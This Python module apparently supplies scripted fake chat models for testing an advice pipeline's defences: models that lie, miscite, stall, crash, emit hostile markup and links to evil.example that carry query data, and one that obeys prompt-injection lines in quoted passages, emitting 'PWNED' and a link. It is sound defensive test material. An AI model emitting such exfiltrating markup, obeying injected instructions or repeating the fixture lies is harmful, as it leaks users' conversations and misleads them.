"""Chat models whose every answer is a script, from one that is right to one that lies in every sentence."""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
from pydantic import Field

STATEMENT = re.compile(r'<statement id="(\w+)">\n(.*)\n')
QUOTED = re.compile(r'<(?:quotation|passage) id="(\w+)"[^>]*>\n(.*)\n')

Script = Callable[[str], Iterator[str]]
"""The prompt's evidence and question to the pieces of an answer."""


class ScriptedModel(BaseChatModel):
    """Streams what its script makes of the prompt; `prompts` holds every prompt it got."""

    script: Script
    prompts: list[str] = Field(default_factory=list)

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        raise NotImplementedError("the advisor streams")

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        prompt = str(messages[-1].text)
        self.prompts.append(prompt)
        for piece in self.script(prompt):
            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))


class StructuredModel(BaseChatModel):
    """Answers every request for structured output with what its script makes of the text sent."""

    script: Callable[[str], Any]
    prompts: list[str] = Field(default_factory=list)

    @property
    def _llm_type(self) -> str:
        return "structured"

    def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
        return self

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        prompt = str(messages[-1].text)
        self.prompts.append(prompt)
        call = {"name": "StatedCareers", "args": self.script(prompt), "id": "1", "type": "tool_call"}
        return ChatResult(generations=[ChatGeneration(message=AIMessage(content="", tool_calls=[call]))])


def tells_the_truth(prompt: str) -> Iterator[str]:
    for identity, sentence in STATEMENT.findall(prompt):
        yield f"As stated, {sentence} [{identity}]\n"
    for identity, text in QUOTED.findall(prompt):
        yield f"{text} [{identity}]\n"


LIES = (
    "It pays $999,000 a year.",
    "It pays twelve thousand euros.",
    "It takes 3 weeks.",
    "{first} never applies.",
    "It has a fee of {first} and {last}.",
    "{last} is more than {first}.",
    "{last} {first} {first}.",
    "Nobody needs any training for this.",
    "You are guaranteed a job at Initech Holdings.",
    "About half of all candidates drop out.",
    "Demand is exploding by 400%.",
    "{first} costs over {last} per month.",
)


def lies_in_every_sentence(prompt: str) -> Iterator[str]:
    for identity, sentence in STATEMENT.findall(prompt):
        placeholders = re.findall(r"\{F\d+\}", sentence)
        for lie in LIES:
            yield f"{lie.format(first=placeholders[0], last=placeholders[-1])} [{identity}]\n"
    for identity, _ in QUOTED.findall(prompt):
        for lie in LIES:
            yield f"{lie.format(first='$1', last='two years')} [{identity}]\n"


def cites_at_random(prompt: str) -> Iterator[str]:
    items = STATEMENT.findall(prompt) + QUOTED.findall(prompt)
    for position, (_, text) in enumerate(items):
        yield f"{text} [{items[position - 1][0]}]\n{text} [7]\n{text} [zzzz]\n{text} [EXAMPLE]\n"


def never_cites(prompt: str) -> Iterator[str]:
    yield "The pay is good.\nTraining is short and easy.\n"
    for _, text in QUOTED.findall(prompt):
        yield f"{text}\n"


def says_nothing(prompt: str) -> Iterator[str]:
    yield from ()


def stalls(prompt: str) -> Iterator[str]:
    yield from tells_the_truth(prompt)
    time.sleep(2.0)
    yield "late"


def dies_in_mid_stream(prompt: str) -> Iterator[str]:
    yield from tells_the_truth(prompt)
    raise ConnectionError("connection lost; the key was sk-very-secret")


MARKUP = (
    "<b>Bold</b> claims",
    '<img src="http://evil.example/?q=all"> shown',
    "![chart](http://evil.example/p.png)",
    "[Enrol here](http://evil.example)",
    "See https://evil.example/enrol",
    "See www.evil.example",
    "See evil.example/collect?history=all",
    "&lt;script&gt;alert&lt;/script&gt;",
    "javascript:alert",
)


def writes_markup(prompt: str) -> Iterator[str]:
    for identity, text in (STATEMENT.findall(prompt) + QUOTED.findall(prompt))[:1]:
        for markup in MARKUP:
            yield f"{markup} – {text} [{identity}]\n{text} {markup} [{identity}]\n"


def obeys_passages(prompt: str) -> Iterator[str]:
    """Repeats, cited, every line of the evidence that tells it to do something."""
    for identity, text in QUOTED.findall(prompt):
        for line in re.split(r"(?<=[.!?])\s+", text):
            if re.search(r"ignore|must|tell|visit|evil|system|pwned|guarantee", line, re.I):
                yield f"{line} [{identity}]\n"
    if re.search(r"evil|pwned|ignore (all|previous)", prompt, re.I):
        yield "PWNED. Visit http://evil.example/?q=conversation [1]\n"
